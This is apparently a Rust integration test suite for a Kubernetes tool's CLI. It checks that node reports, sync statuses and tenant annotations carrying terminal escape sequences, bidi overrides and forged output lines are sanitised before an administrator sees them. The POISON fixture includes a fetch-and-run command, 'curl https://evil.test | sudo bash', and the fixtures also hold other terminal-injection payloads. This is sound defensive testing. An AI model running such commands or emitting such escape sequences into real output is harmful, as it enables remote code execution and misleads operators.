//! A node with its kubelet's certificate, and what it or a tenant writes that an administrator reads on a terminal.

use k8s_openapi::api::core::v1::{ConfigMap, Namespace};
use kube::api::{Api, Patch, PatchParams, PostParams};
use kube::config::KubeConfigOptions;
use kube::{Client, Config};
use serde_json::{Value, json};
use weaver_api::v1beta1::{ConfigMapSync, NodeReport, NodeReportFields};
use weaver_diagnostics::finding::Code;
use weaver_diagnostics::finding_text::is_unprintable;
use weaver_tests::cli::{Said, done, ended, weaver_on};
use weaver_tests::kubelet;
use weaver_tests::own::OwnServer;
use weaver_tests::world::World;

/// Clears the screen, sets the title, rings, begins lines of its own, turns text around, hides some.
const POISON: &str = "x\u{1b}[2J\u{1b}]0;owned\u{7}\u{9b}31m\r\nT-08  FAIL    forged\n              $ curl https://evil.test | sudo bash\n\
                      error: forged\u{202e}\u{2066}\u{200b}\u{2028}";

/// Nothing that the terminal obeys, no line that begins as the attacker wants.
fn is_harmless(said: &Said) {
    for text in [&said.out, &said.err] {
        let obeyed = text.chars().find(|c| !matches!(c, '\n' | '\t') && is_unprintable(*c));
        assert_eq!(obeyed, None, "{text:?}");
        let forged = |line: &str| {
            ["T-08", "$ curl", "error: forged"].iter().any(|word| line.trim_start().starts_with(word))
        };
        assert!(!text.lines().any(forged), "{text}");
    }
}

async fn node(own: &OwnServer, name: &str) -> Api<NodeReport> {
    let kubeconfig = kubelet::kubeconfig(&own.server, &own.client, name).await;
    let config = Config::from_custom_kubeconfig(kubeconfig, &KubeConfigOptions::default()).await.unwrap();
    Api::all(Client::try_from(config).unwrap())
}

async fn report(reports: &Api<NodeReport>, name: &str, findings: Value) {
    if reports.get_opt(name).await.unwrap().is_none() {
        reports.create(&PostParams::default(), &NodeReport::new(name, NodeReportFields {})).await.unwrap();
    }
    let status = json!({"status": {
        "board": POISON, "kernel": POISON, "k3sVersion": POISON, "findings": findings,
        "conditions": [{
            "type": "MemoryCgroupEnabled", "status": "True", "reason": "Fine", "message": POISON,
            "lastTransitionTime": "9999-12-31T23:59:59Z",
        }],
    }});
    reports.patch_status(name, &PatchParams::default(), &Patch::Merge(status)).await.unwrap();
}

fn finding(code: &str, severity: &str) -> Value {
    let (message, remedy) =
        (format!("{POISON} of {code}"), format!("follow this\n$ {POISON}\n$ curl x | sh"));
    json!({"code": code, "severity": severity, "message": message, "evidence": [POISON, POISON], "remedy": remedy})
}

/// What `weaver doctor` says, and its exit status.
async fn doctor(own: &OwnServer, arguments: &[&str]) -> (Said, Option<i32>) {
    let mut command = weaver_on(own, &[&["doctor"], arguments].concat());
    command.env("DOCKER_HOST", "unix:///nonexistent").env_remove("WEAVER_REPORT");
    let code = command.status().await.unwrap().code();
    let mut command = weaver_on(own, &[&["doctor"], arguments].concat());
    command.env("DOCKER_HOST", "unix:///nonexistent").env_remove("WEAVER_REPORT");
    let said = ended(command).await;
    is_harmless(&said);
    assert!(!said.out.contains("$ curl"), "{}", said.out);
    (said, code)
}

#[tokio::test]
async fn a_node_gives_the_administrator_neither_commands_nor_findings_of_others_own_server() {
    let own = OwnServer::start().await;
    own.install().await.unwrap();
    let evil = node(&own, "evil").await;

    // A code that no version has, and one that is never bad: nothing of that is a fault.
    report(
        &evil,
        "evil",
        json!([finding("Z-99", "fail"), finding("\u{1b}[2J", "fail"), finding("N-00", "fail")]),
    )
    .await;
    let (said, code) = doctor(&own, &[]).await;
    assert_eq!(code, Some(0), "{said:?}");
    assert!(said.out.contains("N-17  WARN") && said.out.contains("on the node evil"), "{}", said.out);

    // The neighbour is ill, too, and says so in good faith.
    let honest: Api<NodeReport> = Api::all(own.client.clone());
    let names = json!([{"code": "T-02", "severity": "fail", "message": "raspi.lan is not served"}]);
    report(&honest, "raspi", names).await;
    report(&evil, "evil", json!([finding("T-02", "fail"), finding("A-06", "fail")])).await;
    let (said, code) = doctor(&own, &[]).await;
    assert_eq!(code, Some(10), "{said:?}");
    let row = Code::NameNotServed.row();
    for words in [
        "on the node evil",
        "on the node raspi",
        "\"raspi.lan is not served\"",
        row.remedy,
        &*row.commands[0],
    ] {
        assert!(said.out.contains(words), "{words}: {}", said.out);
    }
    // What helps against A-06 changes the cluster: no node has it recommended.
    assert!(said.out.contains("N-17  WARN") && !said.out.contains("A-06  "), "{}", said.out);
    let (said, _) = doctor(&own, &["-o", "json"]).await;
    let evil_says =
        said.json()["findings"].as_array().unwrap().iter().map(Value::to_string).collect::<String>();
    assert!(!evil_says.contains("follow this"), "{evil_says}");

    // As much as the API server takes.
    let codes: Vec<Value> = Code::ALL
        .iter()
        .take(128)
        .map(|code| json!({"code": code.id(), "severity": "fail", "message": POISON.repeat(40), "evidence": vec![POISON; 16]}))
        .collect();
    report(&evil, "evil", Value::Array(codes)).await;
    let (said, code) = doctor(&own, &[]).await;
    assert_eq!(code, Some(10));
    assert!(said.out.contains("\"raspi.lan is not served\""), "the other node is still heard");
    assert!(
        said.out.matches("on the node evil").count() < 40 && said.out.len() < 100_000,
        "{}",
        said.out.len()
    );

    // A support bundle contains the same.
    let bundle = own.dir().join("bundle.tar");
    let mut command = weaver_on(&own, &["support-bundle", "--output", bundle.to_str().unwrap()]);
    command.env("DOCKER_HOST", "unix:///nonexistent").env_remove("WEAVER_REPORT");
    let said = ended(command).await;
    assert!(said.done, "{said:?}");
    let text = String::from_utf8_lossy(&std::fs::read(&bundle).unwrap()).into_owned();
    assert!(text.contains("on the node evil") && !text.contains("\u{1b}[2J") && !text.contains("$ curl"));
}

#[tokio::test]
async fn a_status_is_not_obeyed_by_the_terminal_that_shows_it_own_server() {
    // No operator runs here that would write another one.
    let own = OwnServer::start().await;
    own.install().await.unwrap();
    let (home, name) = ("default", "poisoned");
    let syncs: Api<ConfigMapSync> = Api::namespaced(own.client.clone(), home);
    let sync: ConfigMapSync = serde_json::from_value(json!({
        "apiVersion": "weaver.example.com/v1beta1", "kind": "ConfigMapSync",
        "metadata": {"name": name, "annotations": {"note": POISON, "weaver.example.com/paused": POISON}},
        "spec": {
            "serviceAccount": {"name": "sync"}, "source": {"kind": "ConfigMap", "namespace": home, "name": "settings"},
            "targets": {"namespaces": ["foo"]},
        },
    }))
    .unwrap();
    syncs.create(&PostParams::default(), &sync).await.unwrap();
    let status = json!({"status": {
        "observedGeneration": 1,
        "conditions": [{
            "type": "Ready", "status": "False", "reason": "Because", "message": POISON, "observedGeneration": 1,
            "lastTransitionTime": "2026-01-01T00:00:00Z",
        }],
        "targets": [{"namespace": POISON, "state": "Synced", "reason": POISON, "message": POISON}],
        "counts": {"desired": 1, "synced": 1, "failed": 0, "conflicts": 0},
    }});
    syncs.patch_status(name, &PatchParams::default(), &Patch::Merge(status)).await.unwrap();
    let namespaces: Api<Namespace> = Api::all(own.client.clone());
    let mut operators = Namespace::default();
    operators.metadata.name = Some(weaver_api::OPERATOR_NAMESPACE.into());
    operators.metadata.annotations =
        Some([("weaver.example.com/paused".to_owned(), POISON.to_owned())].into());
    namespaces.create(&PostParams::default(), &operators).await.unwrap();

    for arguments in [
        &["sync", "get", name, "-n", home][..],
        &["sync", "get", name, "-n", home, "-o", "json"],
        &["sync", "get", name, "-n", home, "-o", "yaml"],
        &["sync", "list", "-A"],
        &["sync", "explain", name, "-n", home],
        &["status"],
        &["status", "-o", "json"],
        &["doctor"],
        &["uninstall", "--dry-run"],
        &["sync", "get", "no-such", "-n", home],
        &["sync", "delete", name, "-n", home, "--orphan"],
    ] {
        let mut command = weaver_on(&own, arguments);
        command.env("DOCKER_HOST", "unix:///nonexistent").env_remove("WEAVER_REPORT");
        let said = ended(command).await;
        assert!(!said.out.is_empty() || !said.err.is_empty(), "{arguments:?}");
        let is_document = arguments.contains(&"json") || arguments.contains(&"yaml");
        if is_document {
            let read: Value = serde_saphyr::from_str(&said.out).unwrap();
            assert!(read.is_object(), "{arguments:?}");
            assert!(!said.out.contains(|c| c != '\n' && is_unprintable(c)), "{arguments:?}: {:?}", said.out);
        } else {
            is_harmless(&said);
        }
    }
}

#[tokio::test]
async fn an_annotation_neither_clears_the_screen_nor_forges_an_orphan() {
    let world = World::new("adversary-annotation").await;
    let home = world.namespace("home").await;
    // Any tenant may label and annotate an object of its own.
    let forged = format!(
        "ConfigMap/{POISON}\nSecret/kube-system/k3s-serving\tcopy of ConfigMapSync a/b\tfrom Secret/c/d"
    );
    let object: ConfigMap = serde_json::from_value(json!({"metadata": {
        "name": "mine", "labels": {"weaver.example.com/sync-uid": "00000000-0000-0000-0000-000000000000"},
        "annotations": {"weaver.example.com/source": forged, "weaver.example.com/sync": format!("a/{POISON}/u")},
    }}))
    .unwrap();
    world.config_maps(&home).create(&PostParams::default(), &object).await.unwrap();
    let said = done(&["orphans", "list", "-n", &home]).await;
    assert_eq!(said.lines().count(), 1, "{said:?}");
    assert!(said.starts_with(&format!("ConfigMap/{home}/mine\tcopy of ")), "{said:?}");
    assert_eq!(said.matches('\t').count(), 2, "{said:?}");
    is_harmless(&Said { done: true, out: said, err: String::new() });
    world.finish().await;
}
